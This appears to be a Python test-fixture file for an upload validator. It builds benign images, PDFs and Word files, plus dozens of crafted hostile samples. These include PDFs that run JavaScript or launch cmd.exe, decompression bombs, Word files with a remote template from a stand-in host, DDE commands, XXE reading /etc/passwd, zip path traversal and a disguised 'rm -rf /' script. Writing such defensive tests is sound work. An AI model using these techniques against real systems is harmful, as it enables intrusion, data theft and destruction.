"""Files to let in, and hostile ones by what is wrong with them. Each is made here: none is anybody's."""

import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="x"><Default Extension="xml" ContentType="text/xml"/></Types>'
)
BODY = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="w"><w:t>Seen on Monday.</w:t></w:document>'


def picture(form="JPEG", size=(64, 48), **saved):
    made = BytesIO()
    Image.new("RGB", size, "teal").save(made, form, **saved)
    return made.getvalue()


def with_place_and_owner():
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[2] = (51.0, 30.0, 0.0)
    return picture(exif=exif)


def pdf(change=None, **encrypt):
    writer, made = PdfWriter(), BytesIO()
    writer.add_blank_page(100, 100)
    if change:
        change(writer)
    if encrypt:
        writer.encrypt(**encrypt)
    writer.write(made)
    return made.getvalue()


def docx(**members):
    """A Word document; `members` are further parts, or other texts of the two that it needs."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as packed:
        for name, text in ({"[Content_Types].xml": TYPES, "word/document.xml": BODY} | members).items():
            packed.writestr(name, text)
    return made.getvalue()


def relation(target, kind="attachedTemplate", mode="External"):
    there = f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="r">{there}</Relationships>'}


def zipped(**members):
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return made.getvalue()


def _action(name, **more):
    def change(writer):
        made = {NameObject("/S"): NameObject(name)} | {NameObject(f"/{key}"): value for key, value in more.items()}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(made)

    return change


def _on_a_page(writer):
    made = DictionaryObject({NameObject("/O"): DictionaryObject({NameObject("/S"): NameObject("/Launch")})})
    writer.pages[0][NameObject("/AA")] = made


def _xfa(writer):
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): TextStringObject("x")})


def _hidden_script():
    """A script behind an escaped name, which a search of the bytes does not find."""
    return pdf(_action("/JavaScript", JS=TextStringObject("app.alert(1)"))).replace(b"/JavaScript", b"/J#61vaScript")


def png_that_lies():
    """A header of 60 000 by 60 000 pixels on next to nothing."""
    made = bytearray(picture("PNG"))
    made[16:24] = (60_000).to_bytes(4, "big") * 2
    made[29:33] = zlib.crc32(made[12:29]).to_bytes(4, "big")
    return bytes(made)


def png_with_a_text_bomb():
    made = picture("PNG")
    chunk = b"zTXt" + b"bomb\0\0" + zlib.compress(b"0" * 5_000_000)
    packed = (len(chunk) - 4).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big")
    return made[:33] + packed + made[33:]


def _link(writer):
    writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="https://www.gov.uk/"))


def _many_pages(writer):
    for _ in range(500):
        writer.add_blank_page(100, 100)


GOOD = {
    "photo.jpg": with_place_and_owner(),
    "PHOTO.JPEG": picture(),
    "drawing.png": picture("PNG"),
    "drawing.webp": picture("WEBP"),
    "letter.pdf": pdf(),
    "letter with a link.pdf": pdf(_link),
    "notes.docx": docx(**relation("https://www.gov.uk/", "hyperlink")),
    "notes.txt": b"Seen on Monday at 9:05, crying.\r\n",
    "old notes.txt": b"Caf\xe9, \xa35\n",
}
HOSTILE = {
    "a program": ("run.exe", b"MZ" + bytes(60)),
    "a program named as a picture": ("run.jpg", b"MZ" + bytes(60)),
    "a program behind two extensions": ("photo.jpg.exe", picture()),
    "a script": ("run.js", b"alert(1)"),
    "a page": ("page.html", b"<script>alert(1)</script>"),
    "a page named as text": ("page.txt", b"<!doctype html><script>alert(1)</script>"),
    "a page named as a picture": ("page.png", b"<html><script>alert(1)</script></html>"),
    "a drawing that scripts": ("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "no extension": ("photo", picture()),
    "only an extension": (".pdf", b"x"),
    "an empty file": ("photo.jpg", b""),
    "eleven megabytes": ("big.txt", b"a" * (11 * 1024 * 1024)),
    "one form of picture under the name of another": ("photo.png", picture()),
    "half a picture": ("photo.jpg", picture(size=(900, 900))[:900]),
    "a picture that unpacks to gigabytes": ("bomb.png", png_that_lies()),
    "a picture with a comment that unpacks to 5 megabytes": ("bomb.png", png_with_a_text_bomb()),
    "noise": ("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20),
    "a moving picture": ("x.gif", picture("GIF")),
    "a PDF that is none": ("letter.pdf", b"%PDF-1.7\nhello\n%%EOF"),
    "a PDF with something before it": ("letter.pdf", b"MZ" + pdf()),
    "a PDF cut short": ("letter.pdf", pdf()[:-200]),
    "a locked PDF": ("letter.pdf", pdf(user_password="secret", algorithm="RC4-128")),
    "a PDF locked with an empty password": ("letter.pdf", pdf(user_password="", algorithm="RC4-128")),
    "a PDF with a script": ("letter.pdf", pdf(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))),
    "a PDF with a script behind an escaped name": ("letter.pdf", _hidden_script()),
    "a PDF that starts a program": ("letter.pdf", pdf(_action("/Launch", F=TextStringObject("cmd.exe")))),
    "a PDF that sends a form": ("letter.pdf", pdf(_action("/SubmitForm", F=TextStringObject("http://x")))),
    "a PDF that opens another file": ("letter.pdf", pdf(_action("/GoToR", F=TextStringObject("//x/y.pdf")))),
    "a PDF that acts when a page opens": ("letter.pdf", pdf(_on_a_page)),
    "a PDF with a form of another kind": ("letter.pdf", pdf(_xfa)),
    "a PDF with a file in it": ("letter.pdf", pdf(lambda writer: writer.add_attachment("run.exe", b"MZ"))),
    "a PDF that is a zip as well": ("letter.pdf", pdf() + zipped(**{"run.exe": b"MZ"}) + b"%%EOF"),
    "a PDF with a script that no table leads to": (
        "letter.pdf",
        pdf().replace(b"%%EOF", b"9 0 obj<</S/JavaScript/JS(x)>>endobj\n%%EOF"),
    ),
    "a PDF of 501 pages": ("letter.pdf", pdf(_many_pages)),
    "a document with a macro": ("notes.docx", docx(**{"word/vbaProject.bin": b"x"})),
    "a document that may have macros": (
        "notes.docx",
        docx(**{"[Content_Types].xml": TYPES.replace("text", "macroEnabled")}),
    ),
    "a document by its name one with macros": ("notes.docm", docx()),
    "an old document": ("notes.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "an old document under a new name": ("notes.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "a document that fetches its template": ("notes.docx", docx(**relation("http://x/evil.dotm"))),
    "a document whose template looks like a link": ("notes.docx", docx(**relation("http://x/relationships/hyperlink"))),
    "a document whose template's target ends its tag": ("notes.docx", docx(**relation("http://x/>.dotm"))),
    "a document that spells its mode in numbers": (
        "notes.docx",
        docx(**relation("http://x/evil.dotm", mode="&#69;xternal")),
    ),
    "a document that fetches a picture": ("notes.docx", docx(**relation("http://x/p.png", "image"))),
    "a document with another program's object": ("notes.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"})),
    "a document with a control": ("notes.docx", docx(**{"word/activeX/activeX1.xml": "<a/>"})),
    "a document with a field that runs": (
        "notes.docx",
        docx(**{"word/document.xml": BODY.replace("Seen", "DDEAUTO c:\\\\cmd.exe")}),
    ),
    "a document that multiplies its entities": (
        "notes.docx",
        docx(**{"word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
    ),
    "a document that reads a file": (
        "notes.docx",
        docx(**{"word/document.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
    ),
    "a document in an encoding that hides": (
        "notes.docx",
        docx(**{"word/document.xml": BODY.replace("UTF-8", "UTF-16").encode("utf-16")}),
    ),
    "a document that unpacks to 30 megabytes": ("notes.docx", docx(**{"word/document.xml": "<" + " " * 30_000_000})),
    "a document that is a zip": ("notes.docx", zipped(**{"run.exe": b"MZ"})),
    "a document with a program in it": ("notes.docx", docx(**{"word/run.exe": b"MZ"})),
    "a document that climbs out of its folder": ("notes.docx", docx(**{"word/../../etc/cron.d/x.xml": "<a/>"})),
    "a document within a document": ("notes.docx", docx(**{"word/embeddings/other.docx": docx()})),
    "a document glued to a program": ("notes.docx", b"MZ" + bytes(60) + docx()),
    "a broken document": ("notes.docx", docx()[:-30]),
    "a zip": ("all.zip", zipped(**{"a.txt": b"a"})),
    "a zip named as text": ("all.txt", zipped(**{"a.txt": b"a"})),
    "a spreadsheet": ("sums.xlsx", docx()),
    "text with letters that no text has": ("notes.txt", b"abc\x00\x01\x02"),
    "rich text": ("notes.txt", rb"{\rtf1\ansi{\object}}"),
    "a shell script named as text": ("notes.txt", b"#!/bin/sh\nrm -rf /\n"),
    "a short cut": ("photo.lnk", b"L\x00\x00\x00"),
    "a name that reads backwards": ("photo\u202egpj.exe", picture()),
    "a name that ends in nothing": ("run.exe\x00.", picture()),
}
